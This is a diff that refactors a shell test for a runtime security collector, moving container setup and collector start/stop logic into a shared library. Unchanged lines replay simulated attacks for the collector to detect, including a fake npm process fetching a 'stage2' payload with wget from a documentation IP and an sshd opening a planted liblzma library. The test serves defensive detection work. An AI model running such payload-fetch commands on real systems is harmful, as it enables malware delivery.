@@ -13,25 +13,9 @@
 set -euo pipefail
 
 collector=${1:?collector}; replay=${2:?catalog_replay}; actions=${3:?capture_actions}; rules=${4:?rules dir}
-here=$(cd "$(dirname "$0")" && pwd)
-harness=${RAMPART_CONTAINER:-$here/container/rampart-container}
+. "$(dirname "$0")/collector_test_lib.sh"
 MIN_PASS=${MIN_PASS:-40}
-if [ "$(id -u)" != 0 ] || ! command -v runc >/dev/null || ! command -v jq >/dev/null || ! command -v script >/dev/null; then
-	echo "SKIP: needs root, runc, jq and script"; exit 77
-fi
-
-export RAMPART_CONTAINER_ROOT
-RAMPART_CONTAINER_ROOT=$(mktemp -d /run/rampart-catalog-test.XXXXXX)
-work=$(mktemp -d)
-cpid=
-cleanup() {
-	[ -n "$cpid" ] && kill -INT "$cpid" 2>/dev/null && wait "$cpid" || true
-	"$harness" stop-all || true
-	rm -rf "$RAMPART_CONTAINER_ROOT" "$work"
-}
-trap cleanup EXIT
-trap 'exit 130' INT TERM
-eval "$("$harness" paths)"
+collector_test_init catalog
 
 cat >"$work/clusters.yaml" <<'YAML'
 clusters:
@@ -52,10 +36,7 @@ priv_pod=node-debug-5f7c9 priv_ns=ops
 app=$("$harness" start app --pod-name $app_pod --namespace $app_ns \
 	--pod-uid 11111111-2222-4333-8444-555555555555 --container-name api)
 
-"$collector" --config "$work/collector.yaml" --record "$work/events.avro" 2>"$work/collector.log" &
-cpid=$!
-for _ in $(seq 50); do grep -q capturing "$work/collector.log" && break; sleep 0.1; done
-grep -q capturing "$work/collector.log" || { cat "$work/collector.log"; echo "FAIL collector did not start"; exit 1; }
+start_collector "$collector"
 
 # Started while the collector runs: its first process is the privileged start.
 priv=$("$harness" start priv --pod-name $priv_pod --namespace $priv_ns \
@@ -193,8 +174,7 @@ sc "$(as sshd); echo x > /tmp/liblzma.so.5.6.1; /tmp/bin/sshd open /tmp/liblzma.
 sc "$(as npm); /tmp/bin/npm spawn /usr/bin/wget wget -q -T 1 http://203.0.113.50/stage2"
 
 sleep 1
-kill -INT "$cpid"; wait "$cpid" || { cat "$work/collector.log"; echo "FAIL collector exit"; exit 1; }
-cpid=
+stop_collector
 tail -n 5 "$work/collector.log"
 cat "$work/tty.log" 2>/dev/null | tr -d "\\000" || true
 
